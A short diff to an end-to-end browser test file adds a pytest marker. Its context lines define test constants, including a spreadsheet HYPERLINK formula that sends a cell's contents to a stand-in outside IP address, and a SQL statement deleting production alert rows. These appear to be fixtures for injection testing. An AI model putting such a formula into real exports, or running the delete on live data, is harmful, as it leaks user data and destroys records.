@@ -16,6 +16,8 @@ from tests.e2e.conftest import Visit
 from tests.e2e.screen import CLOCK, WITHIN_MS, Screen
 from tests.e2e.stage import Stage
 
+pytestmark = pytest.mark.browser
+
 CHANGES = "What changed in the last hour?"
 FORMULA = '=HYPERLINK("http://203.0.113.9/"&A1,"open")'
 FORGET = text("delete from production_alerts where title = :title")
